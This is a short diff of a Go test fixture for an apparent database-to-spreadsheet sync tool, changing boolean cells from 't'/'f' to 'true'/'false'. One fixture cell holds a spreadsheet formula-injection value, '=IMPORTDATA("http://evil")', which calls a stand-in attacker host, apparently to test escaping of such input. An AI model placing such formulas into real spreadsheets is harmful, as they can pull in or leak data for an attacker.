@@ -44,9 +44,9 @@ var shiftCols = []syncer.Column{
 }
 
 var shiftRows = [][]syncer.Value{
-	{syncer.Text("1"), syncer.Text("2025-01-31"), syncer.Text("=IMPORTDATA(\"http://evil\")"), syncer.Text("12.50"), syncer.Text("t"),
+	{syncer.Text("1"), syncer.Text("2025-01-31"), syncer.Text("=IMPORTDATA(\"http://evil\")"), syncer.Text("12.50"), syncer.Text("true"),
 		syncer.Text("2025-01-31 08:00:00.25+00"), syncer.Text(`{"a":[1,2]}`), syncer.Text("123456789012345678.9")},
-	{syncer.Text("9007199254740993"), syncer.Text("0044-03-15 BC"), syncer.Text("+7 999 123"), syncer.Text("0.00"), syncer.Text("f"),
+	{syncer.Text("9007199254740993"), syncer.Text("0044-03-15 BC"), syncer.Text("+7 999 123"), syncer.Text("0.00"), syncer.Text("false"),
 		syncer.Text("2025-10-26 01:30:00+00"), syncer.Text(`null`), syncer.Null},
 	{syncer.Text("3"), syncer.Null, syncer.Null, syncer.Text("-1234567.89"), syncer.Null, syncer.Null, syncer.Null, syncer.Text("0")},
 }
